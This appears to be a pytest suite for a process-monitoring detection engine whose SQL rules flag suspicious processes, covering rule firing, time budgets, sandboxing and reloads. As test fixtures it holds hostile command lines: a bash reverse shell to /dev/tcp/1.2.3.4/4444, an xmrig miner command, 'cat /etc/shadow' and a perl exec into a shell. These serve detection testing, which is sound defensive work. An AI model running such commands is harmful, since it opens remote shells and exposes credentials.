"""The rule engine without sockets: differential firing, incremental and scheduled rules,
time budgets that disable a runaway rule while the others keep firing, reloads."""

from __future__ import annotations

import itertools
import time
from pathlib import Path

import pytest

from daemoneye.rules.engine import Engine
from daemoneye.rules.live import EventIn
from daemoneye.rules.model import Rule, parse_rules_text
from daemoneye.rules.sandbox import BudgetExceeded

SHIPPED = Path(__file__).resolve().parents[2] / "deploy" / "rules"
_ticks = itertools.count(1000)


def rec(pid: int, path: str, ppid: int = 1, argv: list[str] | None = None, **extra) -> dict:
    return {
        "pid": pid,
        "ppid": ppid,
        "startTicks": extra.pop("startTicks", next(_ticks)),
        "startTime": time.time(),
        "exePath": path,
        "name": path.rsplit("/", 1)[-1][:15],
        "cmdline": argv or [path],
        "uid": 1000,
        "euid": 1000,
        **extra,
    }


def engine_with(text: str, **kwargs) -> tuple[Engine, list[tuple[str, str]]]:
    disabled: list[tuple[str, str]] = []
    engine = Engine(on_disable=lambda rule, why: disabled.append((rule.id, why)), **kwargs)
    rules, problems = parse_rules_text(text, "test.yml")
    assert not problems
    checked = [engine.validator.check(r) for r in rules]
    engine.load(checked)
    return engine, disabled


TMP_RULE = """
id: tmp-exec
name: exec from tmp
severity: high
sql: SELECT pid, path FROM processes WHERE path LIKE '/tmp/%'
"""


def test_fires_once_per_process_and_again_for_a_new_one() -> None:
    engine, _ = engine_with(TMP_RULE)
    evil = rec(100, "/tmp/evil")
    firings, _ = engine.apply([EventIn("start", evil), EventIn("start", rec(101, "/bin/ls"))])
    assert [(f.rule.id, f.row["pid"]) for f in firings] == [("tmp-exec", 100)]
    assert firings[0].record["exePath"] == "/tmp/evil"
    # still matching: a modify does not re-fire
    again, _ = engine.apply([EventIn("modify", {**evil, "threads": 4})])
    assert again == []
    # a second matching process fires
    second, _ = engine.apply([EventIn("start", rec(102, "/tmp/evil"))])
    assert [f.row["pid"] for f in second] == [102]
    # pid reuse: same pid, new start ticks is a new process
    reused, _ = engine.apply([EventIn("start", rec(100, "/tmp/evil"))])
    assert [f.row["pid"] for f in reused] == [100]


def test_an_exec_is_judged_afresh_even_when_its_fork_fired() -> None:
    """A fork seen before its exec carries its parent's argv; if that matched, the
    program it then execs must still be judged on its own argv."""
    engine, _ = engine_with(TMP_RULE)
    fork = rec(300, "/tmp/launcher", argv=["/tmp/launcher", "--spawn"])
    firings, _ = engine.apply([EventIn("start", fork)])
    assert [f.record["cmdline"] for f in firings] == [["/tmp/launcher", "--spawn"]]
    exec_ = {**fork, "exePath": "/tmp/payload", "name": "payload", "cmdline": ["/tmp/payload"]}
    firings, _ = engine.apply([EventIn("modify", exec_)])
    assert [f.record["cmdline"] for f in firings] == [["/tmp/payload"]]
    # the same image changing in other ways still does not re-fire
    again, _ = engine.apply([EventIn("modify", {**exec_, "threads": 3})])
    assert again == []


def test_short_lived_process_started_and_stopped_in_one_batch_still_fires() -> None:
    engine, _ = engine_with(TMP_RULE)
    r = rec(200, "/tmp/blink")
    firings, _ = engine.apply([EventIn("start", r), EventIn("stop", r)])
    assert [f.row["pid"] for f in firings] == [200]
    assert engine.tables.find(200) is None


def test_tables_are_written_only_when_a_statement_runs() -> None:
    # batches the screens settle in Python touch no table: their writes wait for the next
    # statement (a rule, a screen only SQLite can judge, a query), which sees every row;
    # a process that came and went meanwhile is neither inserted nor deleted
    engine, _ = engine_with(
        TMP_RULE
        + """---
id: lower-name
name: judged by SQLite
sql: SELECT pid, name FROM processes WHERE name = 'BLINK2' AND lower(path) = '/bin/blink2'
"""
    )
    assert engine.rules["lower-name"].plan.screen  # a screen the judge leaves to SQLite
    statements: list[str] = []
    engine.sandbox.conn.set_trace_callback(statements.append)

    def apply(*events: EventIn) -> list[tuple[str, int]]:
        statements.clear()
        firings, _ = engine.apply(list(events))
        return [(f.rule.id, f.row["pid"]) for f in firings]

    def writes() -> list[str]:  # of processes and process_events (a new path's file row
        return [s for s in statements if "processes" in s or "process_events" in s]  # at once

    benign = rec(210, "/usr/bin/true", name="true")
    assert apply(EventIn("start", benign)) == []
    assert apply(EventIn("stop", benign)) == []
    assert not writes(), statements
    stays = rec(213, "/usr/bin/sleep")
    assert apply(EventIn("start", stays)) == []
    assert not writes(), statements
    blink = rec(211, "/tmp/blink")
    assert apply(EventIn("start", blink), EventIn("stop", blink)) == [("tmp-exec", 211)]
    written = [s for s in writes() if "INSERT" in s or "DELETE" in s]
    # before the rule ran, the rows waiting (traced one by one): the sleep and the blink,
    # not the true that came and went (nor its delete); the window keeps all five events
    assert sum("INSERT INTO processes" in s for s in written) == 2, written
    assert not [s for s in written if "DELETE" in s], written
    assert sum("INSERT INTO process_events" in s for s in written) == 5, written
    blink2 = rec(212, "/BIN/blink2", name="BLINK2")
    assert apply(EventIn("start", blink2), EventIn("stop", blink2)) == [("lower-name", 212)]
    _, rows = engine.query("SELECT pid FROM processes ORDER BY pid", 1.0, 10)
    assert rows == [(213,)]  # the stopped ones went after their batch's rules
    _, rows = engine.query("SELECT pid, event FROM process_events ORDER BY rowid", 1.0, 10)
    assert rows == [(210, "start"), (210, "stop"), (213, "start")] + [
        (pid, kind) for pid in (211, 212) for kind in ("start", "stop")
    ]


def test_a_row_sqlite_refuses_is_left_out_and_the_tables_keep_working() -> None:
    # a UInt64 on the wire may exceed SQLite's INTEGER: that row is counted and left out,
    # the rows around it are written, and no rule is blamed (none is disabled)
    engine, disabled = engine_with(TMP_RULE)
    huge = rec(300, "/usr/bin/huge", residentBytes=2**64 - 1)
    before, after = rec(299, "/usr/bin/before"), rec(301, "/tmp/after")
    firings, _ = engine.apply([EventIn("start", r) for r in (before, huge, after)])
    assert [f.row["pid"] for f in firings] == [301]
    assert engine.tables.rows_refused == 2  # its processes row and its event row
    firings, _ = engine.apply([EventIn("start", rec(302, "/tmp/later"))])
    assert [f.row["pid"] for f in firings] == [302]
    _, rows = engine.query("SELECT pid FROM processes ORDER BY pid", 1.0, 10)
    assert rows == [(299,), (301,), (302,)]
    _, rows = engine.query("SELECT pid FROM process_events ORDER BY rowid", 1.0, 10)
    assert rows == [(299,), (301,), (302,)]
    assert not disabled


def test_cost_follows_changed_rows_not_table_size() -> None:
    engine, _ = engine_with(TMP_RULE)
    engine.apply([EventIn("start", rec(10_000 + i, "/tmp/x")) for i in range(2000)])
    plan = engine.rules["tmp-exec"].plan
    assert plan.mode == "incremental" and plan.sql.endswith("processes.rowid >= ?")
    firings, batch = engine.apply([EventIn("start", rec(20_000, "/tmp/y"))])
    assert len(firings) == 1  # the 2000 earlier matches do not come back
    # the run visits only this batch's rows: SQLite searches the rowid range
    detail = " ".join(
        str(r[-1]) for r in engine.sandbox.conn.execute("EXPLAIN QUERY PLAN " + plan.sql, (1,))
    )
    assert "rowid>?" in detail.replace(" ", "") or "rowid>=?" in detail.replace(" ", ""), detail
    _, rows = engine.sandbox.run(plan.sql, 1.0, 10, (batch.first_rowid,))
    assert len(rows) == 1


def test_parent_columns_and_joins() -> None:
    engine, _ = engine_with(
        """
id: web-shell
name: shell from nginx
sql: |
  SELECT p.pid, p.parent_name, pp.path AS parent_exe
  FROM processes p JOIN processes pp ON p.parent = pp.pid
  WHERE p.name = 'sh' AND pp.name = 'nginx'
"""
    )
    engine.apply([EventIn("start", rec(300, "/usr/sbin/nginx"))])
    firings, _ = engine.apply([EventIn("start", rec(301, "/bin/sh", ppid=300))])
    assert [(f.row["pid"], f.row["parent_name"], f.row["parent_exe"]) for f in firings] == [
        (301, "nginx", "/usr/sbin/nginx")
    ]


def test_event_rules_fire_per_event() -> None:
    engine, _ = engine_with(
        """
id: susp
name: collector said so
sql: SELECT pid, reason FROM process_events WHERE event = 'suspicious'
"""
    )
    r = rec(400, "/tmp/a")
    firings, _ = engine.apply([EventIn("suspicious", r, reason="exe_deleted", severity="high")])
    assert [(f.row["pid"], f.row["reason"]) for f in firings] == [(400, "exe_deleted")]
    firings, _ = engine.apply([EventIn("suspicious", r, reason="masquerade", severity="high")])
    assert [f.row["reason"] for f in firings] == ["masquerade"]


def test_aggregate_rule_fires_once_per_storm() -> None:
    engine, _ = engine_with(
        """
id: storm
name: fork storm
interval: 0.01
sql: |
  SELECT parent, count(*) AS children FROM process_events
  WHERE event = 'start' GROUP BY parent HAVING count(*) > 50
"""
    )
    assert engine.rules["storm"].plan.mode == "scheduled"
    engine.apply([EventIn("start", rec(500, "/bin/bash"))])
    engine.apply([EventIn("start", rec(600 + i, "/bin/true", ppid=500)) for i in range(40)])
    assert engine.run_due(force=True) == []
    engine.apply([EventIn("start", rec(700 + i, "/bin/true", ppid=500)) for i in range(20)])
    firings = engine.run_due(force=True)
    assert [(f.row["parent"], f.row["children"]) for f in firings] == [(500, 60)]
    assert firings[0].record["pid"] == 500  # the storming parent
    engine.apply([EventIn("start", rec(800 + i, "/bin/true", ppid=500)) for i in range(5)])
    assert engine.run_due(force=True) == []  # same parent, still storming: no re-fire


def test_runaway_rule_is_stopped_by_the_budget_and_disabled_others_keep_firing() -> None:
    text = (
        TMP_RULE
        + """
---
id: forever
name: cartesian explosion
sql: |
  SELECT count(*) FROM processes a, process_events b, process_events c, process_events d
  WHERE a.name LIKE '%x%'
"""
    )
    engine, disabled = engine_with(text, scheduled_budget_s=0.05)
    engine.apply([EventIn("start", rec(900 + i, "/usr/bin/x")) for i in range(300)])
    started = time.monotonic()
    engine.run_due(force=True)
    assert time.monotonic() - started < 5  # the budget stopped it, not completion
    assert [d[0] for d in disabled] == ["forever"]
    assert "time budget" in disabled[0][1]
    assert engine.rules["forever"].summary()["state"].startswith("disabled")
    firings, _ = engine.apply([EventIn("start", rec(1500, "/tmp/still-caught"))])
    assert [f.rule.id for f in firings] == ["tmp-exec"]
    assert engine.run_due(force=True) == []  # the disabled rule no longer runs


def test_incremental_rule_that_errors_is_disabled() -> None:
    engine, disabled = engine_with(
        TMP_RULE
        + """
---
id: overflow
name: fails at run time
sql: SELECT pid FROM processes WHERE abs(-9223372036854775807 - (pid - 1599)) > 0
"""
    )
    firings, _ = engine.apply([EventIn("start", rec(1600, "/tmp/z"))])
    assert [f.rule.id for f in firings] == ["tmp-exec"]
    assert [d[0] for d in disabled] == ["overflow"]
    assert "integer overflow" in disabled[0][1]


def test_reload_keeps_differential_state() -> None:
    engine, _ = engine_with(TMP_RULE)
    r = rec(1700, "/tmp/keep")
    assert len(engine.apply([EventIn("start", r)])[0]) == 1
    rules, _ = parse_rules_text(TMP_RULE, "test.yml")
    changes = engine.load([engine.validator.check(rules[0])])
    assert changes["unchanged"] == ["tmp-exec"]
    assert engine.apply([EventIn("modify", r)])[0] == []


def test_query_budget_and_read_only() -> None:
    engine, _ = engine_with(TMP_RULE)
    engine.apply([EventIn("start", rec(1800 + i, "/bin/x")) for i in range(200)])
    with pytest.raises(BudgetExceeded):
        engine.query(
            "SELECT count(*) FROM process_events a, process_events b, process_events c",
            budget_s=0.05,
            max_rows=1,
        )
    with pytest.raises(ValueError, match="only a SELECT"):
        engine.query("DELETE FROM processes", 1.0, 1)
    columns, rows = engine.query("SELECT count(*) AS n FROM processes", 1.0, 1)
    assert columns == ["n"] and rows[0][0] == 200


def test_sandbox_authorizer_blocks_writes_even_without_validation() -> None:
    engine, _ = engine_with(TMP_RULE)
    for sql in ("DELETE FROM processes", "SELECT * FROM sqlite_master", "PRAGMA query_only=0"):
        with pytest.raises(Exception, match=r"not authorized|prohibited"):
            engine.sandbox.run(sql, 1.0, 1)


def test_snapshot_rebuild_replaces_live_table_without_events() -> None:
    engine, _ = engine_with(TMP_RULE)
    engine.apply([EventIn("start", rec(1900, "/bin/old"))])
    firings = engine.rebuild([rec(1901, "/tmp/pre-existing"), rec(1902, "/bin/bash")], "col@x")
    assert [f.row["pid"] for f in firings] == [1901]
    _, rows = engine.sandbox.run("SELECT pid FROM processes ORDER BY pid", 1.0, 10)
    assert rows == [(1901,), (1902,)]
    _, rows = engine.sandbox.run("SELECT count(*) FROM process_events", 1.0, 1)
    assert rows == [(1,)]  # only the real start event, not the snapshot


MARKER_RULE = """
id: marker
name: marker argv
severity: low
sql: SELECT pid, name, cmdline FROM processes WHERE cmdline LIKE 'marker/%'
"""


def test_a_process_read_as_it_exits_is_not_alerted_again() -> None:
    """A snapshot (or rescan) reads /proc as the process exits: its argv, then no
    executable; a zombie has neither. The same process, the same image: no second
    firing, which would reach the alerter under another dedup key (rule, exe, argv).
    The row keeps what the process runs (the handover fault suite's flake)."""
    engine, _ = engine_with(MARKER_RULE)
    full = rec(2000, "/usr/bin/sleep", argv=["marker/1", "0.05"], accessible=True)
    firings, _ = engine.apply([EventIn("start", full, source="netlink", collector="c")])
    assert [f.record["exePath"] for f in firings] == ["/usr/bin/sleep"]
    exiting = {**full, "exePath": "", "cwd": "", "accessible": False}
    assert engine.rebuild([exiting], "c") == []
    zombie = {**exiting, "cmdline": [], "state": "Z"}
    assert engine.rebuild([zombie], "c") == []
    assert engine.apply([EventIn("modify", full, collector="c")])[0] == []
    _, rows = engine.sandbox.run("SELECT path, cmdline FROM processes", 1.0, 10)
    assert rows == [("/usr/bin/sleep", "marker/1 0.05")]
    # first seen without its executable, then with it: the same image better known
    quiet = rec(2001, "/usr/bin/sleep", argv=["marker/2"], accessible=True)
    firings, _ = engine.apply([EventIn("start", {**quiet, "exePath": ""}, collector="c")])
    assert len(firings) == 1
    assert engine.apply([EventIn("modify", quiet, collector="c")])[0] == []
    # a real exec (another executable and argv) is judged afresh
    exec_ = {**full, "exePath": "/usr/bin/env", "cmdline": ["marker/3"]}
    firings, _ = engine.apply([EventIn("modify", exec_, collector="c")])
    assert [f.record["cmdline"] for f in firings] == [["marker/3"]]


NAME_RULE = """
id: by-name
name: a program known by its name alone
severity: low
sql: SELECT pid, name, path FROM processes WHERE name = 'marker-cat'
"""


def test_an_exec_read_too_late_for_exe_and_argv_is_judged_by_its_new_name() -> None:
    """A shell's fork copy, then its exec of a program that exits before /proc is read:
    no executable, no argv, but the kernel's name changed. It is a new image: judged,
    and its row does not borrow the shell's executable and argv."""
    engine, _ = engine_with(NAME_RULE)
    fork_copy = rec(2200, "/usr/bin/bash", argv=["bash"], accessible=True)
    assert engine.apply([EventIn("start", fork_copy, source="netlink", collector="c")])[0] == []
    late = {**fork_copy, "exePath": "", "cmdline": [], "name": "marker-cat", "accessible": False}
    firings, _ = engine.apply([EventIn("modify", late, source="netlink", collector="c")])
    assert [(f.record["name"], f.record["exePath"]) for f in firings] == [("marker-cat", "")]


BASH_RULE = """
id: bash-by-name
name: a bash
severity: low
sql: SELECT pid, path, cmdline FROM processes WHERE name = 'bash'
"""


def test_an_exec_whose_argv_was_lost_under_the_same_name_is_a_new_image() -> None:
    """bash exec'ing a bash that exits before /proc is read: the name tells nothing new,
    but the collector says the argv was lost (reason `argv_lost: ...`). A new image:
    judged afresh, without the argv of the bash before it (which the rules judged)."""
    engine, _ = engine_with(BASH_RULE)
    first = rec(2300, "/usr/bin/bash", argv=["bash", "-c", "marker-first"], accessible=True)
    assert len(engine.apply([EventIn("start", first, source="netlink", collector="c")])[0]) == 1
    lost = {**first, "exePath": "", "cmdline": [], "accessible": False}
    flagged = EventIn("modify", lost, source="netlink", collector="c", reason="argv_lost: busy")
    firings, _ = engine.apply([flagged])
    assert [(f.record["exePath"], f.record["cmdline"]) for f in firings] == [("", [])]
    _, rows = engine.sandbox.run("SELECT path, cmdline FROM processes", 1.0, 10)
    assert rows == [("", "")]
    # without the collector's word it is the same image read as it exits (see above)
    again = rec(2301, "/usr/bin/bash", argv=["bash", "-c", "marker-again"], accessible=True)
    assert len(engine.apply([EventIn("start", again, source="netlink", collector="c")])[0]) == 1
    unflagged = {**again, "exePath": "", "cmdline": [], "accessible": False}
    assert engine.apply([EventIn("modify", unflagged, source="netlink", collector="c")])[0] == []
    _, rows = engine.sandbox.run("SELECT cmdline FROM processes WHERE pid = 2301", 1.0, 10)
    assert rows == [("bash -c marker-again",)]


def test_a_snapshot_does_not_bring_back_a_process_seen_exiting() -> None:
    """A collector's snapshot taken before it took in an exit the detector has (a new
    collector's first rescan finds its predecessor's exits as zombies, or as they exit):
    the process stays gone and is not judged again."""
    engine, _ = engine_with(MARKER_RULE)
    full = rec(2100, "/usr/bin/sleep", argv=["marker/1", "0.05"], accessible=True)
    firings, _ = engine.apply([EventIn("start", full, collector="c")])
    assert len(firings) == 1
    engine.apply([EventIn("stop", full, collector="c")])
    assert engine.rebuild([full, {**full, "exePath": ""}], "c") == []
    _, rows = engine.sandbox.run("SELECT pid FROM processes", 1.0, 10)
    assert rows == []
    # the same pid started again (other start ticks) is another process
    again = rec(2100, "/usr/bin/sleep", argv=["marker/1", "0.05"], accessible=True)
    assert len(engine.rebuild([again], "c")) == 1


def test_a_late_start_or_modify_does_not_bring_back_a_process_seen_exiting() -> None:
    """A start or modify sent before an exit the detector took in, arriving after it
    (two collectors, a hand-over, a replay): kept as an event, but the process stays
    gone, is not judged again as live, and does not evict the process now holding
    its pid. The same pid with another start is a new process and is taken."""
    engine, _ = engine_with(MARKER_RULE)
    tables = engine.tables
    full = rec(2300, "/usr/bin/sleep", argv=["marker/1", "0.05"], accessible=True)
    assert len(engine.apply([EventIn("start", full, collector="a")])[0]) == 1
    engine.apply([EventIn("stop", full, collector="a")])
    for kind in ("start", "modify"):
        late = EventIn(kind, {**full, "threads": 2}, source="netlink", collector="b")
        assert engine.apply([late])[0] == []
        assert tables.find(2300) is None
    # its exit seen first (no start before it), then its start
    brief = rec(2301, "/usr/bin/true", argv=["marker/2"], accessible=True)
    engine.apply([EventIn("stop", brief, collector="a")])
    engine.apply([EventIn("start", brief, collector="b")])
    assert tables.find(2301) is None
    _, rows = engine.sandbox.run("SELECT pid FROM processes", 1.0, 10)
    assert rows == []
    _, rows = engine.sandbox.run("SELECT pid, event FROM process_events ORDER BY eid", 1.0, 10)
    assert [r[1] for r in rows] == ["start", "stop", "start", "modify", "stop", "start"]
    # the pid reused by a new process (other start ticks): live, judged; a late event of
    # the old one leaves it be
    again = rec(2300, "/usr/bin/sleep", argv=["marker/3"], accessible=True)
    assert len(engine.apply([EventIn("start", again, collector="b")])[0]) == 1
    engine.apply([EventIn("modify", full, collector="a")])
    found = tables.find(2300)
    assert found is not None and found.record["startTicks"] == again["startTicks"]
    _, rows = engine.sandbox.run("SELECT pid, cmdline FROM processes", 1.0, 10)
    assert rows == [(2300, "marker/3")]


def test_a_late_record_that_tells_more_than_the_exit_is_judged_once_not_brought_back() -> None:
    """A scan found the process exited (a zombie: no executable, no argv) and its
    collector said start and stop; the netlink exec it was about to take comes after,
    with the program: judged once, as a process that stopped (a rule on argv must not
    miss it), and still not live. The same again is an event only."""
    engine, _ = engine_with(MARKER_RULE)
    full = rec(2400, "/usr/bin/sleep", argv=["marker/4", "0.05"], accessible=True)
    zombie = {**full, "exePath": "", "cmdline": [], "cwd": "", "state": "Z"}
    assert engine.apply([EventIn("start", zombie), EventIn("stop", zombie)])[0] == []
    firings, _ = engine.apply([EventIn("start", full, source="netlink")])
    assert [f.record["cmdline"] for f in firings] == [["marker/4", "0.05"]]
    assert engine.tables.find(2400) is None
    _, rows = engine.sandbox.run("SELECT pid FROM processes", 1.0, 10)
    assert rows == []
    assert engine.apply([EventIn("start", full), EventIn("modify", full)])[0] == []


def test_event_window_is_bounded() -> None:
    engine, _ = engine_with(TMP_RULE, window_rows=100, window_s=60)
    engine.apply([EventIn("start", rec(3000 + i, "/bin/x")) for i in range(250)])
    old = EventIn("start", rec(9999, "/bin/old"), time_ns=(int(time.time()) - 3600) * 10**9)
    engine.apply([old])
    engine.tables.trim_events()
    _, rows = engine.sandbox.run("SELECT count(*), min(pid) FROM process_events", 1.0, 1)
    assert rows[0][0] <= 100 and rows[0][1] != 9999


def test_shipped_rules_load_and_fire_on_their_targets() -> None:
    engine = Engine()
    changes, problems = engine.load_paths([SHIPPED])
    assert problems == [] and len(changes["added"]) >= 10
    cases = {
        "de-reverse-shell-devtcp": rec(
            5001, "/bin/bash", argv=["bash", "-i", ">&", "/dev/tcp/1.2.3.4/4444"]
        ),
        "de-exec-world-writable": rec(5002, "/dev/shm/.x"),
        "de-cryptominer": rec(5003, "/opt/xmrig", argv=["xmrig", "-o", "stratum+tcp://pool:3333"]),
        "de-deleted-executable": rec(5004, "/usr/bin/gone", exeDeleted=True, onDisk=0),
        "de-shadow-access": rec(5005, "/bin/cat", argv=["cat", "/etc/shadow"]),
        "de-root-from-user": rec(5006, "/usr/bin/evil", euid=0),
    }
    fired = {}
    for rule_id, record in cases.items():
        firings, _ = engine.apply([EventIn("start", record)])
        fired[rule_id] = {f.rule.id for f in firings}
    for rule_id in cases:
        assert rule_id in fired[rule_id], (rule_id, fired[rule_id])
    benign, _ = engine.apply([EventIn("start", rec(5100, "/usr/bin/ls", argv=["ls", "-l"]))])
    assert benign == []
    flagged = EventIn("suspicious", rec(5200, "/usr/bin/x"), reason="uid_raised_to_root: 1000")
    assert {f.rule.id for f in engine.apply([flagged])[0]} == {"de-collector-suspicious"}
    # a storm of children: the aggregate fires once for their parent
    engine.apply([EventIn("start", rec(6000 + i, "/bin/true", ppid=5100)) for i in range(60)])
    storms = [f for f in engine.run_due(force=True) if f.rule.id == "de-fork-storm"]
    assert [f.row["parent"] for f in storms] == [5100]


def test_rule_model_defaults() -> None:
    rule = Rule(id="x", name="y", sql="SELECT 1")
    assert rule.enabled and rule.severity == "medium"


def test_an_image_left_within_one_batch_is_judged_too() -> None:
    # perl -e 'exec "/bin/sh", ...': the exec into perl and the exec out of it arrive in
    # one batch; the rules still see perl's command line, and the alert carries it
    engine, _ = engine_with(
        """
id: perl-exec
name: perl one-liner
sql: SELECT pid, cmdline FROM processes WHERE name = 'perl' AND cmdline LIKE '%exec%'
---
id: sh-any
name: a shell
sql: SELECT pid, cmdline FROM processes WHERE name = 'sh'
"""
    )
    perl = rec(300, "/usr/bin/perl", argv=["perl", "-e", 'exec "/bin/sh"'])
    sh = dict(perl, exePath="/usr/bin/dash", name="sh", cmdline=["/bin/sh", "-c", "id"])
    firings, _ = engine.apply([EventIn("start", perl), EventIn("modify", sh)])
    got = sorted((f.rule.id, f.record["cmdline"][0]) for f in firings)
    assert got == [("perl-exec", "perl"), ("sh-any", "/bin/sh")]
    # afterwards only the current image is left in the live table
    _, rows = engine.query("SELECT name FROM processes WHERE pid = 300", 1.0, 10)
    assert rows == [("sh",)]
    # a change that keeps the image (uid) still replaces the row: nothing fires again
    again, _ = engine.apply([EventIn("modify", dict(sh, uid=0))])
    assert again == []


def test_a_fork_that_never_ran_a_program_does_not_repeat_its_parents_alert() -> None:
    engine, _ = engine_with(TMP_RULE)
    parent = rec(400, "/tmp/evil", argv=["/tmp/evil", "-d"], accessible=True)
    firings, _ = engine.apply([EventIn("start", parent)])
    assert [f.row["pid"] for f in firings] == [400]
    # its forked workers: the collector copies the parent's image, accessible false
    copies = [dict(parent, pid=401 + i, ppid=400, startTicks=next(_ticks), accessible=False)
              for i in range(3)]  # fmt: skip
    assert engine.apply([EventIn("start", c) for c in copies])[0] == []
    # still in the table, for rules that correlate (process groups, sessions)
    _, rows = engine.query("SELECT count(*) FROM processes WHERE parent = 400", 1.0, 1)
    assert rows == [(3,)]
    # a child that exec'd the same program is a program of its own: judged
    child = dict(parent, pid=410, ppid=400, startTicks=next(_ticks), accessible=True)
    assert [f.row["pid"] for f in engine.apply([EventIn("start", child)])[0]] == [410]
